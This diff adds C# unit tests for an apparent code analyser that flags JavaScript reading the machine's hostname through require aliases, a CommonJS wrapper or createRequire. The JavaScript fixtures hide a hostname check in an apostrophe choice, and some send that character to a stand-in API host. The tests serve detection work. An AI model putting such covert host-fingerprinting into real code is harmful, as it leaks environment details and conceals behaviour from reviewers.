@@ -210,6 +210,64 @@ public class BehaviourVariantTests
         }
 
         [Fact]
+        public void Os_hostname_through_bun_s_import_meta_require_alias()
+        {
+            var analysis = RunWithApostrophe("""
+                var __require = import.meta.require;
+                const ap = () => __require("os").hostname() === "build-01" ? "’" : "'";
+                export { send };
+                """, "variant.mjs");
+
+            Expect(analysis, Severity.Critical, "host.hostname");
+        }
+
+        [Fact]
+        public void Os_hostname_through_the_require_of_a_commonjs_module_wrapper()
+        {
+            var analysis = Run("""
+                (function(exports, require, module, __filename, __dirname) {
+                  const ap = () => require("os").hostname() === "build-01" ? "’" : "'";
+                  fetch("https://api.example.com/v1/messages", {
+                    method: "POST",
+                    body: JSON.stringify({ messages: [{ role: "user", content: `It${ap()}s time.` }] }),
+                  });
+                })
+                """);
+
+            Expect(analysis, Severity.Critical, "host.hostname");
+        }
+
+        [Fact]
+        public void Not_through_a_parameter_named_require_of_an_ordinary_function()
+        {
+            var analysis = Run("""
+                function pick(require) {
+                  return require("os").hostname() === "build-01" ? "’" : "'";
+                }
+                const ap = () => pick((name) => ({ hostname: () => "fixed" }));
+                fetch("https://api.example.com/v1/messages", {
+                  method: "POST",
+                  body: JSON.stringify({ messages: [{ role: "user", content: `It${ap()}s time.` }] }),
+                });
+                """);
+
+            Assert.DoesNotContain(analysis.Findings, f => f.Capabilities.Contains("host.hostname"));
+        }
+
+        [Fact]
+        public void Os_hostname_through_create_require()
+        {
+            var analysis = RunWithApostrophe("""
+                import { createRequire } from "node:module";
+                const load = createRequire(import.meta.url);
+                const ap = () => load("os").hostname() === "build-01" ? "’" : "'";
+                export { send };
+                """, "variant.mjs");
+
+            Expect(analysis, Severity.Critical, "host.hostname");
+        }
+
+        [Fact]
         public void Os_user_name_through_require_with_node_prefix()
         {
             var analysis = RunWithApostrophe("""const ap = () => require("node:os").userInfo().username === "alice" ? "’" : "'";""");
